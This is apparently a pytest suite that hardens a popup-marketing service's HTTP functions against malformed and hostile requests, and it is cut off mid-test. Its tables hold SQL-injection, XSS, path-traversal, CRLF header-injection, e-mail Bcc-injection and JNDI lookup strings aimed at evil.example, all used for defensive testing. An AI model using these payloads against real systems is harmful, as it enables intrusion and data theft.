"""Hostile and broken requests, to every function: a documented refusal, never a 500, and nothing half-written stays."""

import base64
import http.client
import json
import uuid
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
import requests

from cli.function_table import FUNCTIONS as TABLE
from cli.function_table import load
from common.shop.addresses import decode_uri
from tests.support.calls import good_call
from tests.support.client import Client, assert_problem
from tests.support.factories import Shop, capture, conversion, make_popup, make_shop, purchase, view
from tests.support.stack import ASGI_FUNCTIONS, FUNCTIONS, Database, FunctionProcess

KIB = 1024
FOREIGN_ID = str(uuid.uuid4())


@pytest.fixture(scope="module")
def shop(database: Database) -> Shop:
    return make_shop(database)


@pytest.fixture(scope="module")
def popup_id(database: Database, shop: Shop) -> str:
    return make_popup(database, shop)


@pytest.fixture(scope="module")
def functions(request: pytest.FixtureRequest) -> dict[str, FunctionProcess]:
    return {name: request.getfixturevalue(name) for name in FUNCTIONS}


NONE = ("popup_views", "popup_conversions", "email_subscribers", "idempotency_keys", "discount_codes")
WHAT_STAYS = f"""
    SELECT name, currency,
        (SELECT json_agg(json_build_array(id, name, version)) FROM popups WHERE shop_id = :id) AS popups,
        {", ".join(f"(SELECT count(*) FROM {table} WHERE shop_id = :id) AS {table}" for table in ("api_keys", *NONE))}
    FROM shops
    WHERE id = :id
"""


@pytest.fixture(autouse=True)
def nothing_broke_and_nothing_stayed(
    database: Database, functions: dict[str, FunctionProcess], shop: Shop, popup_id: str
) -> Iterator[None]:
    """After each test: no function has logged an error, and the shop is as it was but for its only popup."""
    marks = {name: function.log_bytes() for name, function in functions.items()}
    yield
    for name, function in functions.items():
        new = function.logs(since=marks[name])
        assert '"severity":"ERROR"' not in new
        assert "Traceback" not in new
    assert database(WHAT_STAYS, id=shop.id) == [
        {
            "name": "A shop",
            "currency": "USD",
            "popups": [[popup_id, "A popup", 1]],
            "api_keys": 2,
            **dict.fromkeys(NONE, 0),
        }
    ]


# Every address that takes a body: the function, the verb, the path, and a body it would accept.
Target = tuple[str, str, str, Callable[[str], dict[str, Any]]]
TARGETS: dict[str, Target] = {
    "track_view": ("track_view", "POST", "/", view),
    "track_conversion": ("track_conversion", "POST", "/", conversion),
    "a new popup": ("manage_popups", "POST", "/popups", lambda popup_id: {"name": "Bad"}),
    "a popup's patch": ("manage_popups", "PATCH", "/popups/{popup_id}", lambda popup_id: {"name": "Bad"}),
    "the shop's patch": ("manage_popups", "PATCH", "/shop", lambda popup_id: {"name": "Bad"}),
    "a new key": ("manage_popups", "POST", "/api-keys", lambda popup_id: {"rights": "read"}),
}

every_target = pytest.mark.parametrize("target", TARGETS.values(), ids=TARGETS)


@pytest.fixture
def send(functions: dict[str, FunctionProcess], shop: Shop, popup_id: str) -> Callable[..., requests.Response]:
    def send_to(target: Target, body: Any, **headers: str) -> requests.Response:
        name, verb, path, _ = target
        sent = {"Content-Type": "application/json"} | {key.replace("_", "-"): text for key, text in headers.items()}
        return Client(functions[name], shop.write_key)(verb, path.format(popup_id=popup_id), data=body, headers=sent)

    return send_to


MALFORMED: dict[str, bytes] = {
    "nothing": b"",
    "blanks": b"  \n ",
    "half an object": b'{"name": "Bad"',
    "two objects": b"{}{}",
    "a trailing comma": b'{"name": "Bad",}',
    "single quotes": b"{'name': 'Bad'}",
    "a comment": b'{"name": "Bad"} // really',
    "NaN": b'{"name": "Bad", "priority": NaN}',
    "Infinity": b'{"name": "Bad", "priority": -Infinity}',
    "a raw line break in text": b'{"name": "Bad\nname"}',
    "a raw NUL in text": b'{"name": "Bad\x00name"}',
    "NUL bytes": b"\x00\x00\x00",
    "invalid UTF-8": b'{"name": "\xff\xfe"}',
    "an overlong form": b'{"name": "\xc0\xaf"}',
    "a surrogate in UTF-8": b'{"name": "\xed\xa0\x80"}',
    "a lone high surrogate": b'{"name": "\\ud800"}',
    "a lone low surrogate": b'{"name": "\\udfff"}',
    "surrogates the wrong way round": b'{"name": "\\udc00\\ud800"}',
    "half an emoji": b'{"name": "\\ud83d!"}',
    "a number beyond a double": b'{"name": "Bad", "priority": 1e400}',
    "a negative number beyond a double": b'{"name": "Bad", "priority": -1e400}',
    "Latin-1": '{"name": "Bücher"}'.encode("latin-1"),
    "UTF-16": '{"name": "Bad"}'.encode("utf-16"),
    "a byte order mark": '{"name": "Bad"}'.encode("utf-8-sig"),
    "an integer of 5 000 digits": b'{"priority": ' + b"9" * 5000 + b"}",
    "10 000 open brackets": b"[" * 10_000,
    "brackets 10 000 deep": b"[" * 10_000 + b"]" * 10_000,
    "objects 1 000 deep": b'{"a":' * 1000 + b"1" + b"}" * 1000,
    "XML": b"<?xml version='1.0'?><popup/>",
    "a form": b"name=Bad&rights=read",
}


@every_target
@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED)
def test_a_body_that_is_not_json_is_a_400(send: Any, target: Target, body: bytes) -> None:
    assert_problem(send(target, body), 400, "malformed_json")


NOT_AN_OBJECT: dict[str, bytes] = {
    "null": b"null",
    "a number": b"17",
    "text": b'"name"',
    "true": b"true",
    "a list": b"[]",
    "a list of objects": b'[{"name": "Bad"}]',
    "an empty list as text": b'"[]"',
}


@every_target
@pytest.mark.parametrize("body", NOT_AN_OBJECT.values(), ids=NOT_AN_OBJECT)
def test_a_body_that_is_no_object_is_a_422(send: Any, target: Target, body: bytes) -> None:
    assert_problem(send(target, body), 422, "invalid", "")


UNSTORABLE: dict[str, str] = {
    "an escaped NUL": "\\u0000",
    "one in a row": "Bad\\u0000\\u0000name",
}


@every_target
@pytest.mark.parametrize("text", UNSTORABLE.values(), ids=UNSTORABLE)
def test_text_that_cannot_be_stored_is_refused_wherever_it_stands(
    send: Any, target: Target, text: str, popup_id: str
) -> None:
    good = target[3](popup_id)
    for field, value in {
        "name": f'"a{text}b"',
        "session_id": f'"{text}"',
        "metadata": f'{{"deep": [1, {{"er": "{text}"}}]}}',
        "list": f'["{text}"]',
    }.items():
        body = json.dumps(good)[:-1] + f', "{field}": {value}}}'
        problem = assert_problem(send(target, body.encode()), 422, "invalid")
        assert all(path.startswith(field) for path in problem["errors"]), problem["errors"]
    as_a_name = json.dumps(good)[:-1] + f', "{text}": 1}}'
    assert_problem(send(target, as_a_name.encode()), 422, "invalid", "")


@every_target
def test_a_body_of_10_megabytes_is_a_413(send: Any, target: Target, popup_id: str) -> None:
    body = json.dumps({**target[3](popup_id), "description": "x" * 10_000_000}).encode()
    assert_problem(send(target, body), 413, "body_too_large")


@every_target
def test_a_body_in_chunks_is_as_large_as_it_is(send: Any, target: Target) -> None:
    chunks = (b" " * 64 * KIB for _ in range(17))  # without a Content-Length
    assert_problem(send(target, chunks), 413, "body_too_large")


@pytest.mark.parametrize("name", ["track_view", "track_conversion", "a new popup"])
def test_the_largest_body_is_64_kib_of_storefronts_and_1_mib_of_merchants(send: Any, name: str) -> None:
    most = 1024 * KIB if name == "a new popup" else 64 * KIB
    just_right = b"[" + b" " * (most - 2) + b"]"
    assert_problem(send(TARGETS[name], just_right), 422, "invalid", "")
    assert_problem(send(TARGETS[name], just_right + b" "), 413, "body_too_large")


UNSUPPORTED: dict[str, dict[str, str]] = {
    "a form": {"Content_Type": "application/x-www-form-urlencoded"},
    "a multipart form": {"Content_Type": "multipart/form-data; boundary=x"},
    "XML": {"Content_Type": "application/xml"},
    "a near miss": {"Content_Type": "application/jsonx"},
    "another JSON": {"Content_Type": "application/ld+json"},
    "no type": {"Content_Type": ""},
    "nonsense": {"Content_Type": ";;;/"},
    "gzip": {"Content_Encoding": "gzip"},
    "an unknown encoding": {"Content_Encoding": "rot13"},
}


@every_target
@pytest.mark.parametrize("headers", UNSUPPORTED.values(), ids=UNSUPPORTED)
def test_a_body_of_another_type_or_encoding_is_a_415(
    send: Any, target: Target, headers: dict[str, str], popup_id: str
) -> None:
    body = json.dumps(target[3](popup_id)).encode()
    assert_problem(send(target, body, **headers), 415, "unsupported_media_type")


@pytest.mark.parametrize("name", ["a new popup", "a popup's patch", "the shop's patch", "a new key"])
def test_text_plain_is_for_storefronts_only(send: Any, name: str, popup_id: str) -> None:
    body = json.dumps(TARGETS[name][3](popup_id)).encode()
    assert_problem(send(TARGETS[name], body, Content_Type="text/plain"), 415, "unsupported_media_type")


# More than anybody needs: each is refused by its number, and nothing in it is looked at

NAMES = dict.fromkeys(map(str, range(80_000)), 1)
FEW_NAMES = dict.fromkeys(map(str, range(50)), 1)
POOL: Target = ("manage_popups", "POST", f"/discount-codes/{FOREIGN_ID}/codes", lambda popup_id: {"count": 1})
TOO_MANY: dict[str, tuple[Target, dict[str, Any], str]] = {
    "views": (TARGETS["track_view"], {"events": [{}] * 20_000}, "events"),
    "views that are numbers": (TARGETS["track_view"], {"events": [0] * 30_000}, "events"),
    "variants": (TARGETS["a new popup"], {"variants": [{}] * 300_000}, "variants"),
    "patched variants": (TARGETS["a popup's patch"], {"variants": [{}] * 300_000}, "variants"),
    "pages": (TARGETS["a new popup"], {"targeting": {"include_pages": [1] * 300_000}}, "targeting.include_pages"),
    "devices": (TARGETS["a new popup"], {"targeting": {"device_types": [1] * 300_000}}, "targeting.device_types"),
    "UTM parameters": (TARGETS["a new popup"], {"targeting": {"utm": NAMES}}, "targeting.utm"),
    "origins": (TARGETS["the shop's patch"], {"allowed_origins": [1] * 300_000}, "allowed_origins"),
    "codes": (POOL, {"codes": [""] * 200_000}, "codes"),
    "unknown names": (TARGETS["a new popup"], NAMES, ""),
    "patched unknown names": (TARGETS["a popup's patch"], NAMES, ""),
    "unknown names in a design": (TARGETS["a new popup"], {"design": NAMES}, "design"),
}


@pytest.mark.parametrize(("target", "body", "path"), TOO_MANY.values(), ids=TOO_MANY)
def test_far_too_many_are_refused_by_their_number(send: Any, target: Target, body: dict[str, Any], path: str) -> None:
    named = {"name": "Bad"} if target == TARGETS["a new popup"] and path else {}
    answer = send(target, json.dumps(named | body, separators=(",", ":")).encode())
    assert_problem(answer, 422, "invalid", path)
    assert len(answer.content) < KIB


MANY_ERRORS: dict[str, tuple[Target, dict[str, Any]]] = {
    "bad codes": (POOL, {"codes": [""] * 10_000}),
    "101 unknown names": (TARGETS["a new popup"], {"name": "Bad", **dict.fromkeys(map(str, range(101)), 1)}),
    "unknown names in each variant": (
        TARGETS["a new popup"],
        {"name": "Bad", "variants": [{"id": "a", "design": FEW_NAMES}] * 10},
    ),
}


@pytest.mark.parametrize(("target", "body"), MANY_ERRORS.values(), ids=MANY_ERRORS)
def test_of_more_than_100_errors_99_are_named_and_the_last_says_that_there_are_more(
    send: Any, target: Target, body: dict[str, Any]
) -> None:
    errors = assert_problem(send(target, json.dumps(body).encode()), 422, "invalid")["errors"]
    assert len(errors) == 100
    assert errors[""] == ["More fields are invalid than the 99 listed here."]


@every_target
def test_no_more_than_100_texts_that_cannot_be_stored_are_named(send: Any, target: Target) -> None:
    body = '{"list": [' + ", ".join(['"\\u0000"'] * 1000) + "]}"
    assert len(assert_problem(send(target, body.encode()), 422, "invalid")["errors"]) == 100


def test_what_was_sent_is_not_sent_back_at_length(send: Any) -> None:
    answer = send(TARGETS["a new popup"], json.dumps({"name": "Bad", "n" * 1_000_000: 1}).encode())
    assert_problem(answer, 422, "invalid", "n" * 200)


# Events

BAD_EVENTS: dict[str, tuple[dict[str, Any], str]] = {
    "no popup": ({"popup_id": None}, "popup_id"),
    "a number for a popup": ({"popup_id": 1}, "popup_id"),
    "a list for a popup": ({"popup_id": []}, "popup_id"),
    "a popup by name": ({"popup_id": "summer"}, "popup_id"),
    "SQL for a popup": ({"popup_id": "' OR 1=1 --"}, "popup_id"),
    "no session": ({"session_id": None}, "session_id"),
    "an empty session": ({"session_id": ""}, "session_id"),
    "a number for a session": ({"session_id": 5}, "session_id"),
    "an object for a session": ({"session_id": {"$ne": None}}, "session_id"),
    "a session of 10 000 characters": ({"session_id": "x" * 10_000}, "session_id"),
    "a visitor of 65 characters": ({"visitor_id": "ü" * 65}, "visitor_id"),
    "an empty variant": ({"variant_id": ""}, "variant_id"),
    "a long variant": ({"variant_id": "v" * 65}, "variant_id"),
    "a watch": ({"device_type": "watch"}, "device_type"),
    "a list of devices": ({"device_type": ["mobile"]}, "device_type"),
    "an event id that is none": ({"event_id": "1"}, "event_id"),
    "a number for an event id": ({"event_id": 2**128 - 1}, "event_id"),
    "an event id with a blank": ({"event_id": " " + "1" * 31}, "event_id"),
    "an event id as a program's number": ({"event_id": "0x" + "1_" * 15}, "event_id"),
    "a popup in wide digits": ({"popup_id": "\uff11" * 32}, "popup_id"),
}
BAD_VIEWS: dict[str, tuple[dict[str, Any], str]] = {
    "a number for a page": ({"page_url": 5}, "page_url"),
    "an object for a referrer": ({"referrer": {}}, "referrer"),
}
BAD_CONVERSIONS: dict[str, tuple[dict[str, Any], str]] = {
    "no type": ({"type": None}, "type"),
    "an unknown type": ({"type": "refund"}, "type"),
    "a list of types": ({"type": ["click"]}, "type"),
    "a capture without an e-mail": ({"type": "email_capture"}, "email"),
    "no e-mail": ({"type": "email_capture", "email": "ada"}, "email"),
    "an e-mail with a line break": (
        {"type": "email_capture", "email": "ada@example.com\nBcc: all@example.com"},
        "email",
    ),
    "an e-mail of 300 characters": ({"type": "email_capture", "email": "a" * 290 + "@example.com"}, "email"),
    "an e-mail that is an object": ({"type": "email_capture", "email": {"a": 1}}, "email"),
    "consent in words": ({"consent": "yes"}, "consent"),
    "consent as a number": ({"consent": 1}, "consent"),
    "consent to nothing": ({"type": "email_capture", "email": "a@example.com", "consent": True}, "consent_text"),
    "a name of 201 characters": ({"name": "n" * 201}, "name"),
    "a code that was not named": ({"type": "discount_code_used"}, "discount_code"),
    "negative revenue": ({"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "-0.01"}, "revenue"),
    "revenue in words": ({"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "ten"}, "revenue"),
    "revenue that is no number": (
        {"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "NaN"},
        "revenue",
    ),
    "a signalling NaN": ({"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "sNaN"}, "revenue"),
    "infinite revenue": ({"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "Infinity"}, "revenue"),
    "revenue beyond the world's": (
        {"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "1e13"},
        "revenue",
    ),
    "revenue of huge exponent": (
        {"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "1e999999"},
        "revenue",
    ),
    "revenue of tiny exponent": (
        {"type": "purchase", "currency": "USD", "order_id": "1", "revenue": "1e-999999"},
        "revenue",
    ),
    "revenue without its currency": ({"type": "purchase", "order_id": "1", "revenue": "1"}, "currency"),
    "a currency without revenue": ({"type": "purchase", "currency": "USD", "order_id": "1"}, "revenue"),
    "a currency that nobody pays in": (
        {"type": "purchase", "currency": "XXX", "order_id": "1", "revenue": "1"},
        "currency",
    ),
    "true for revenue": ({"type": "purchase", "currency": "USD", "order_id": "1", "revenue": True}, "revenue"),
    "a currency in small letters": ({"currency": "usd"}, "currency"),
    "a purchase without an order": ({"type": "purchase", "currency": "USD", "revenue": "1"}, "order_id"),
    "an empty order": ({"type": "purchase", "currency": "USD", "revenue": "1", "order_id": ""}, "order_id"),
    "a list for metadata": ({"metadata": [1]}, "metadata"),
    "text for metadata": ({"metadata": "{}"}, "metadata"),
    "metadata of 4 KiB and some": ({"metadata": {"a": "x" * 4096}}, "metadata"),
}


@pytest.mark.parametrize(("fields", "path"), (BAD_EVENTS | BAD_VIEWS).values(), ids=BAD_EVENTS | BAD_VIEWS)
def test_a_bad_view_is_refused_by_field_alone_and_in_a_list(
    track_view: FunctionProcess, popup_id: str, fields: dict[str, Any], path: str
) -> None:
    bad = {**view(popup_id), **fields}
    assert_problem(Client(track_view).post(json=bad), 422, "invalid", path)
    one_of_three = {"events": [view(popup_id), bad, view(popup_id)]}
    assert_problem(Client(track_view).post(json=one_of_three), 422, "invalid", f"events.1.{path}")


BAD_LISTS: dict[str, tuple[Any, str]] = {
    "nothing": ([], "events"),
    "null": (None, "events"),
    "text": ("events", "events"),
    "an object": ({"0": {}}, "events"),
    "a list of numbers": ([1], "events.0"),
    "a list of lists": ([[]], "events.0"),
    "51 views": ([view(FOREIGN_ID) for _ in range(51)], "events"),
}


@pytest.mark.parametrize(("events", "path"), BAD_LISTS.values(), ids=BAD_LISTS)
def test_a_list_that_is_not_1_to_50_views_is_refused(track_view: FunctionProcess, events: Any, path: str) -> None:
    problem = assert_problem(Client(track_view).post(json={"events": events}), 422, "invalid")
    assert all(found.startswith(path) for found in problem["errors"])


@pytest.mark.parametrize(("fields", "path"), (BAD_EVENTS | BAD_CONVERSIONS).values(), ids=BAD_EVENTS | BAD_CONVERSIONS)
def test_a_bad_conversion_is_refused_by_field(
    track_conversion: FunctionProcess, popup_id: str, fields: dict[str, Any], path: str
) -> None:
    assert_problem(Client(track_conversion).post(json={**conversion(popup_id), **fields}), 422, "invalid", path)


def test_a_number_beyond_a_double_is_malformed_in_revenue_and_metadata(send: Any, popup_id: str) -> None:
    for value in ("1e400", "-1e400"):
        body = json.dumps(purchase(popup_id, "1", "REVENUE")).replace('"REVENUE"', value)
        assert_problem(send(TARGETS["track_conversion"], body.encode()), 400, "malformed_json")
        body = json.dumps(conversion(popup_id, metadata={"a": ["METADATA"]})).replace('"METADATA"', value)
        assert_problem(send(TARGETS["track_conversion"], body.encode()), 400, "malformed_json")


@pytest.mark.parametrize(
    "id_", [FOREIGN_ID, str(uuid.UUID(int=0)), str(uuid.UUID(int=2**128 - 1))], ids=["random", "zero", "greatest"]
)
def test_an_event_of_an_unknown_popup_is_not_found(
    track_view: FunctionProcess, track_conversion: FunctionProcess, id_: str
) -> None:
    assert_problem(Client(track_view).post(json=view(id_)), 404, "popup_not_found")
    for event in (conversion(id_), capture(id_, "ada@example.com"), purchase(id_, "1")):
        assert_problem(Client(track_conversion).post(json=event), 404, "popup_not_found")


# Queries and addresses

BAD_SHOP_IDS: dict[str, str] = {
    "none": "",
    "empty": "?shop_id=",
    "another parameter": "?shop=acme",
    "10 000 characters": "?shop_id=" + "a" * 10_000,
    "65 characters": "?shop_id=" + "a" * 65,
    "SQL": "?shop_id='%20OR%20'1'='1",
    "a script": "?shop_id=<script>alert(1)</script>",
    "NUL": "?shop_id=acme%00",
    "invalid UTF-8": "?shop_id=%ff%fe",
    "a lone surrogate": "?shop_id=%ed%a0%80",
    "a line break": "?shop_id=acme%0a",
    "a path": "?shop_id=../../etc/passwd",
    "a key of the cache": "?shop_id=x}:generation",
    "letters of other alphabets": "?shop_id=%D0%B0cme",
    "a wildcard": "?shop_id=*",
}


@pytest.mark.parametrize("query", BAD_SHOP_IDS.values(), ids=BAD_SHOP_IDS)
def test_a_shop_id_that_cannot_be_one_is_a_422(get_active_popups: FunctionProcess, query: str) -> None:
    problem = assert_problem(Client(get_active_popups).get(f"/{query}"), 422, "invalid")
    assert len(problem["errors"]) == 1


def test_too_many_parameters_are_a_422(get_active_popups: FunctionProcess) -> None:
    query = "&".join(f"p{number}=1" for number in range(200))
    assert_problem(Client(get_active_popups).get(f"/?shop_id=acme&{query}"), 422, "invalid", "")


def cursor(forged: Any) -> str:
    text = forged if isinstance(forged, bytes) else json.dumps(forged).encode()
    return base64.urlsafe_b64encode(text).decode().rstrip("=")


BAD_LIST_QUERIES: dict[str, tuple[str, str]] = {
    "a page of nothing": ("limit=0", "limit"),
    "a page of 10^9": ("limit=1000000000", "limit"),
    "a page of one too many": ("limit=101", "limit"),
    "a negative page": ("limit=-1", "limit"),
    "half a page": ("limit=1.5", "limit"),
    "a page in words": ("limit=ten", "limit"),
    "a page of no size": ("limit=", "limit"),
    "a page of 4 000 nines": ("limit=" + "9" * 4000, "limit"),
    "not a page": ("limit=NaN", "limit"),
    "an infinite page": ("limit=1e999", "limit"),
    "a page in a program's form": ("limit=1_0", "limit"),
    "a page with a blank": ("limit=%205", "limit"),
    "a page in wide digits": ("limit=\uff15", "limit"),
    "an unknown status": ("status=live", "status"),
    "SQL for a status": ("status=active'%20OR%20'1'='1", "status"),
    "an unknown parameter": ("offset=10", "offset"),
    "a cursor of no size": ("cursor=", "cursor"),
    "a cursor that is no base64": ("cursor=***", "cursor"),
    "a cursor beyond ASCII": ("cursor=%C3%BC", "cursor"),
    "a cursor of 10 000 letters": ("cursor=" + "A" * 8000, "cursor"),
    "a cursor to nowhere": (f"cursor={cursor('nowhere')}", "cursor"),
    "a cursor of bytes": (f"cursor={cursor(bytes(range(200)))}", "cursor"),
}


@pytest.mark.parametrize(("query", "path"), BAD_LIST_QUERIES.values(), ids=BAD_LIST_QUERIES)
def test_a_list_that_cannot_be_asked_for_is_a_422(
    manage_popups: FunctionProcess, shop: Shop, query: str, path: str
) -> None:
    assert_problem(Client(manage_popups, shop.read_key).get(f"/popups?{query}"), 422, "invalid", path)


# A cursor is a name of the list, the time at which the last popup of the page was made, and its id.
BAD_CURSORS: dict[str, Any] = {
    "of another list": ["0123456789abcdef", "2026-01-01T00:00:00+00:00", FOREIGN_ID],
    "without a time": ["LIST", "soon", FOREIGN_ID],
    "without a zone": ["LIST", "2026-01-01T00:00:00", FOREIGN_ID],
    "without an id": ["LIST", "2026-01-01T00:00:00+00:00", "5"],
    "of too little": ["LIST", "2026-01-01T00:00:00+00:00"],
    "of too much": ["LIST", "2026-01-01T00:00:00+00:00", FOREIGN_ID, FOREIGN_ID],
    "of a number": ["LIST", 5, FOREIGN_ID],
    "of NUL": ["LIST", "\0", FOREIGN_ID],
    "of nothing": [],
    "that is no list": {"list": "LIST"},
    "that is a number": 5,
}


@pytest.fixture
def of_a_list(database: Database, manage_popups: FunctionProcess) -> tuple[Client, str]:
    """Return a client of a shop and the name that cursors of its popups begin with."""
    shop = make_shop(database)
    for _ in range(2):
        make_popup(database, shop)
    merchant = Client(manage_popups, shop.read_key)
    given = merchant.get("/popups?limit=1").json()["next_cursor"]
    return merchant, json.loads(base64.urlsafe_b64decode(given + "=" * (-len(given) % 4)))[0]


@pytest.mark.parametrize("forged", BAD_CURSORS.values(), ids=BAD_CURSORS)
def test_a_cursor_that_the_list_has_not_given_is_a_422(of_a_list: tuple[Client, str], forged: Any) -> None:
    merchant, name = of_a_list
    own = [name if part == "LIST" else part for part in forged] if isinstance(forged, list) else forged
    assert_problem(merchant.get(f"/popups?cursor={cursor(own)}"), 422, "invalid", "cursor")


@pytest.mark.parametrize(
    "time", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+00:00"]
)
def test_a_forged_cursor_at_the_end_of_time_is_a_page_or_a_422(of_a_list: tuple[Client, str], time: str) -> None:
    merchant, name = of_a_list
    assert merchant.get(f"/popups?cursor={cursor([name, time, FOREIGN_ID])}").status_code in (200, 422)


NO_ADDRESSES: dict[str, str] = {
    "an unknown one": "/nothing-here",
    "one below": "/deeper/still",
    "a dotted one": "/.git/config",
    "one climbing out": "/%2e%2e/%2e%2e/etc/passwd",
    "one with NUL": "/%00",
    "one of invalid UTF-8": "/%ff%fe",
    "one with a lone surrogate": "/%ed%a0%80",
    "one of two slashes": "//evil.example/",
    "one of 8 000 characters": "/" + "x" * 8000,
    "a script": "/<script>alert(1)</script>",
}


@pytest.mark.parametrize("path", NO_ADDRESSES.values(), ids=NO_ADDRESSES)
@pytest.mark.parametrize("name", FUNCTIONS)
def test_an_address_where_nothing_is_is_a_404(functions: dict[str, FunctionProcess], name: str, path: str) -> None:
    answer = Client(functions[name]).get(path)
    assert_problem(answer, 404, "not_found")
    assert "script" not in answer.text


@pytest.mark.parametrize("name", FUNCTIONS)
def test_a_line_break_in_an_address_ends_no_header(functions: dict[str, FunctionProcess], name: str) -> None:
    """Where the framework is Starlette only the status: it has no route with a line break, and answers by itself."""
    answer = Client(functions[name]).get("/x%0d%0aSet-Cookie:%20a=b")
    if name in ASGI_FUNCTIONS:
        assert answer.status_code == 404
    else:
        assert_problem(answer, 404, "not_found")
    assert "Set-Cookie" not in answer.headers


ODD_HEADERS: dict[str, dict[str, bytes]] = {
    "a forged X-Forwarded-For": {"X-Forwarded-For": b"1.2.3.4, 'OR 1=1, ::::, <script>"},
    "a long X-Forwarded-For": {"X-Forwarded-For": b"1.1.1.1," * 900},
    "a trace that is none": {"traceparent": b"00-<script>-\xff-01", "X-Cloud-Trace-Context": b"%s%n"},
    "a User-Agent of bytes": {"User-Agent": bytes(range(128, 256))},
    "a long User-Agent": {"User-Agent": b"Mozilla/5.0 " * 600},
    "an Accept-Encoding of nonsense": {"Accept-Encoding": b"gzip;q=abc, *;;;q, ,"},
    "an If-None-Match of nonsense": {"If-None-Match": b'"""",W/W/"\xff, ****'},
    "a long Origin": {"Origin": b"https://" + b"a" * 7000},
    "an Origin of nonsense": {"Origin": b"javascript:\xff<>"},
    "a Content-Type without a body": {"Content-Type": b"application/json"},
}


@pytest.mark.parametrize("headers", ODD_HEADERS.values(), ids=ODD_HEADERS)
@pytest.mark.parametrize("name", FUNCTIONS)
def test_odd_headers_break_nothing(
    functions: dict[str, FunctionProcess], shop: Shop, popup_id: str, name: str, headers: Any
) -> None:
    method, path, *_ = good_call(name, shop, popup_id)
    answer = Client(functions[name], shop.read_key)(method, path, headers=headers)
    assert answer.status_code in (200, 304, 400, 401, 415), answer.text
    assert len(answer.headers["X-Request-Id"]) == 32


@pytest.mark.parametrize("name", FUNCTIONS)
def test_a_verb_that_nothing_answers_is_a_405_with_those_that_do(
    functions: dict[str, FunctionProcess], shop: Shop, popup_id: str, name: str
) -> None:
    path = good_call(name, shop, popup_id).path.partition("?")[0]
    answer = Client(functions[name])("PUT", path)
    assert_problem(answer, 405, "method_not_allowed")
    endpoints = load(TABLE[name]).endpoints
    verbs = {endpoint.method for endpoint in endpoints if endpoint.path.fullmatch(path)}
    assert set(answer.headers["Allow"].split(", ")) == verbs | {"OPTIONS"} | ({"HEAD"} if "GET" in verbs else set())


@pytest.mark.parametrize("name", FUNCTIONS)
@pytest.mark.parametrize("verb", ["TRACE", "BREW", "get"])
def test_a_verb_nobody_knows_is_an_error_of_the_client(
    functions: dict[str, FunctionProcess], name: str, verb: str
) -> None:
    """Servers and frameworks refuse some before the function hears of them."""
    connection = http.client.HTTPConnection("127.0.0.1", functions[name].port, timeout=5)
    connection.request(verb, "/")
    assert connection.getresponse().status in (400, 404, 405)
    connection.close()


def test_a_body_cut_short_is_an_error_of_the_client_only(
    track_view: FunctionProcess, manage_popups: FunctionProcess, shop: Shop
) -> None:
    for function, path in ((track_view, "/"), (manage_popups, "/popups")):
        connection = http.client.HTTPConnection("127.0.0.1", function.port, timeout=5)
        connection.putrequest("POST", path)
        for name, value in {"Content-Type": "application/json", "Content-Length": "1000", **shop.writer}.items():
            connection.putheader(name, value)
        connection.endheaders()
        connection.send(b'{"name": "Half')
        connection.close()
        assert function.healthy()


# What looks dangerous and is only text

FRAGMENTS: dict[str, str] = {
    "SQL": "'; DROP TABLE popups; -- \\' OR ''='",
    "a parameter": ":shop_id $1 %s {0} {shop} ?",
    "a script": "</script><script>alert('1')</script><img src=x onerror=alert(1)>",
    "JSON": '","status":"active","x":"\\u0000\\',
    "line breaks": "one\r\ntwo\u2028three\u0085four\ttab",
    "a path": "../../etc/passwd\\..\\",
    "emoji and other planes": "👩🏽‍🚀 \U0010ffff \ufeff\u202eabc",
    "a formula": '=HYPERLINK("http://evil.example")',
    "blanks": "  leading and trailing  ",
    "template code": "{{7*7}} ${jndi:ldap://evil.example} <%= 1 %>",
}

every_fragment = pytest.mark.parametrize("text", FRAGMENTS.values(), ids=FRAGMENTS)


@every_fragment
def test_dangerous_text_in_a_popup_comes_back_as_it_was_sent(
    manage_popups: FunctionProcess, get_active_popups: FunctionProcess, database: Database, text: str
) -> None:
    own = make_shop(database)
    merchant = Client(manage_popups, own.write_key)
    design = {"heading": text, "subheading": text, "button_text": text}
    path, selector = f"/{quote(text, safe='')}/*", f"[title={json.dumps(text)}]"
    pages = {"include_pages": [path], "exclude_pages": [path], "referrers": [f"shop.example{path}"]}
    targeting = {**pages, "utm": {"source": text}}
    popup = {
        "name": text,
        "description": text,
        "status": "active",
        "trigger": {"type": "click", "selector": selector},
        "design": design,
        "targeting": targeting,
        "offer": {"type": "newsletter", "consent_text": text},
        "variants": [{"id": "a", "name": text, "design": {"heading": text}, "offer": {"consent_text": text}}],
    }
    created = merchant.post("/popups", popup)
    assert created.status_code == 201, created.text
    merchant.patch(f"/popups/{created.json()['id']}", {"priority": 1})  # through the merge, too
    read = merchant.get(f"/popups/{created.json()['id']}").json()
    (shown,) = Client(get_active_popups).get(f"/?shop_id={own.id}").json()["popups"]
    for answer in (read, shown):
        assert answer["design"] | design == answer["design"]
        read_pages = {name: [decode_uri(path)] for name in ("include_pages", "exclude_pages")}
        assert answer["targeting"] | targeting | read_pages == answer["targeting"]
        assert (answer["trigger"]["selector"], answer["offer"]["consent_text"]) == (selector, text)
        assert answer["variants"][0]["design"] == {"heading": text}
    assert (read["name"], read["description"], read["variants"][0]["name"]) == (text, text, text)
    assert merchant.patch("/shop", {"name": text}).json()["name"] == text
    assert merchant.post("/api-keys", {"rights": "read", "name": text}).json()["name"] == text


@every_fragment
def test_dangerous_text_in_an_event_is_stored_as_it_was_sent(
    track_view: FunctionProcess, track_conversion: FunctionProcess, database: Database, text: str
) -> None:
    own_popup = make_popup(database, make_shop(database), offer={"consent_text": text})
    ids = {"session_id": text, "visitor_id": text}
    seen = view(own_popup, variant_id=text, page_url=text, referrer=text, **ids)
    said = {"name": text, "consent": True, "consent_text": text, "metadata": {text: [text]}}
    captured = capture(own_popup, "o'brien+--@example.com", **said, **ids)
    bought = purchase(own_popup, text, **ids)
    used = conversion(own_popup, "discount_code_used", discount_code=text, **ids)
    assert Client(track_view).post(json=seen).status_code == 202
    for event in (captured, bought, used):
